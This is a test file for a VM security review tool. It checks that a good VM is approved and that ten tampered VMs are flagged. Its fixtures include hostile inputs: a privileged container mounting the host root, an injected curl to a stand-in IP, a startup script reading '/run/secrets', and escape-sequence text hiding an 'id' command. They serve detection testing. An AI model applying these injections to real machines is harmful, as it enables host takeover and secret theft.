import { createHash } from 'node:crypto';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { columnsOf } from '../../src/provisioner/present/layout.js';
import type { AuditEntry } from '../../src/facts/index.js';
import {
  articleScript,
  articleScriptHash,
  editedArticleScript,
  editedArticleScriptHash,
  hardenedScript,
  hardenedScriptHash,
} from './support/article.js';
import { ArticleRun } from './support/article-run.js';
import { articleVm, auditEntry, editedVm, factsOf, fakeImageVm, goodVm, setMetadataEntry } from './support/article-vms.js';
import type { Outcome } from './support/harness.js';
import type { VmFacts } from './support/memory-cloud.js';

/** Compares with a file that was read by a person once; UPDATE_GOLDEN=1 writes it anew, and git shows what changed. */
function expectGolden(name: string, text: string): void {
  const file = join(__dirname, '../golden/review', name);
  if (process.env['UPDATE_GOLDEN'] === '1') writeFileSync(file, text);
  expect(existsSync(file)).toBe(true);
  expect(text).toBe(readFileSync(file, 'utf8'));
}

async function review(facts: VmFacts, answer: string): Promise<{ outcome: Outcome; run: ArticleRun }> {
  const run = new ArticleRun(facts);
  try {
    return { outcome: await run.approve({ answers: [answer] }), run };
  } finally {
    run.end();
  }
}

const good = factsOf(goodVm);
const { instance } = good;
const withMetadata = (metadata: VmFacts['instance']['metadata']): VmFacts => ({ ...good, instance: { ...instance, metadata } });
const withScript = (script: string): VmFacts => withMetadata(new Map([['user-data', script]]));
const call = (methodName: string, principalEmail: string): AuditEntry =>
  auditEntry(goodVm, {
    timestamp: '2021-06-22T12:10:00Z',
    methodName,
    principalEmail,
    request: { '@type': 'x', nested: { list: [1, 'two'] } },
  });

/** Ten VMs that a tired person would wave through: file name, the VM, what the review must say, and whether it can be accepted. */
const bad: readonly (readonly [name: string, facts: VmFacts, finding: RegExp, waivable: boolean])[] = [
  [
    'fakeimage',
    factsOf(fakeImageVm),
    /FAIL boot-image-trusted: boot image\s+projects\/tc-4f4f5a70\/global\/images\/fakeimage: not of project/,
    true,
  ],
  [
    'edited-metadata',
    factsOf(editedVm, [setMetadataEntry]),
    /FAIL no-unapproved-change: SetMetadata called on instance, there is no reason\s+this should happen!/,
    false,
  ],
  ['article', factsOf(articleVm), /FAIL script-server-pin/, true],
  [
    'privileged',
    withScript(hardenedScript.replace('docker run', 'docker run --privileged -v /:/host')),
    /FAIL script-docker-flags: line \d+: --privileged/,
    true,
  ],
  ['two-documents', withScript(`${hardenedScript}---\nruncmd: [curl http://203.0.113.9/x]\n`), /FAIL script-one-document/, true],
  [
    'startup-script',
    withMetadata(new Map([...instance.metadata, ['startup-script', 'cat /run/secrets/*\n']])),
    /FAIL metadata-keys: key startup-script/,
    true,
  ],
  [
    'hidden-text',
    withScript(hardenedScript.replace('daemon-reload', 'daemon-reload \u001b[1A\u001b[2K\u202e; id')),
    /FAIL script-characters/,
    true,
  ],
  ['detached-disk', { ...good, bootDisk: { ...good.bootDisk, lastDetachSeconds: 1_624_363_100 } }, /FAIL boot-disk-untouched/, false],
  [
    'no-secure-boot',
    {
      ...good,
      instance: { ...instance, shielded: { enableSecureBoot: false, enableVtpm: false, enableIntegrityMonitoring: false } },
      identity: { ekPublicPem: '', ekCertificatePem: '', akPublicPem: '', akCertificatePem: '' },
    },
    /FAIL shielded: the VM has no vTPM/,
    false,
  ],
  [
    'serial-console',
    factsOf(goodVm, [call('google.ssh-serialport.v1.connect', 'bob@example.com')]),
    /FAIL no-unapproved-change: 1 changes/,
    true,
  ],
];

describe("the article's startup scripts", () => {
  it('hash to the values that the article prints', () => {
    const hash = (script: string): string => createHash('sha256').update(script).digest('base64');
    expect(hash(articleScript)).toBe(articleScriptHash);
    expect(hash(editedArticleScript)).toBe(editedArticleScriptHash);
  });
});

describe('the review of a good VM', () => {
  it('shows everything that the article shows, and a y approves it', async () => {
    const { outcome, run } = await review(good, 'y');
    expectGolden('good.txt', outcome.shown);
    for (const printed of [
      '8939838129032687278',
      hardenedScriptHash,
      '2021-06-22T04:57:59.255-07:00',
      'sSHMqlnfdVM=',
      'AMD Rome',
      'projects/cos-cloud/global/images/cos-stable-81-12871-119-0',
      'tokenclient@tc-4f4f5a70.iam.gserviceaccount.com',
      '34.121.225.36',
      'beta.compute.instances.insert',
      'admin@esodemoapp2.com',
      'compute.googleapis.com',
      'NOTICE',
      '2021-06-22T11:57:52Z',
      'ONE_TO_ONE_NAT',
    ]) {
      expect(outcome.shown).toContain(printed);
    }
    expect(outcome.shown).toContain('0 FAIL');
    expect(outcome.exitCode).toBe(0);
    expect(run.cloud.stored.get(goodVm.id)?.init_script_hash).toBe(hardenedScriptHash);
  });
});

describe('the review of a bad VM', () => {
  it.each(bad)('%s: the reason stands above the question, and a y does not approve it', async (name, facts, finding, waivable) => {
    const { outcome, run } = await review(facts, 'y');
    expectGolden(`${name}.txt`, outcome.shown);
    expect(outcome.shown.slice(outcome.shown.indexOf('== Findings'))).toMatch(finding);
    expect(outcome.questions).toEqual(waivable ? [expect.stringContaining('type the instance id')] : []);
    expect(outcome.exitCode).toBe(waivable ? 1 : 3);
    expect(run.cloud.stored.size).toBe(0);
  });

  it.each(bad.filter(([, , , waivable]) => !waivable))('%s: nobody can accept it, whatever is typed', async (_name, facts) => {
    const { outcome, run } = await review(facts, facts.instance.id);
    expect(outcome.shown).toContain('this cannot be accepted');
    expect(outcome.exitCode).toBe(3);
    expect(run.cloud.stored.size).toBe(0);
  });
});

it.each([['good'], ...bad.map(([name]) => [name])])('the review of %s fits into 80 columns', (name) => {
  const lines = readFileSync(join(__dirname, '../golden/review', `${name}.txt`), 'utf8').split('\n');
  expect(lines.filter((line) => columnsOf(line) > 80)).toEqual([]);
});
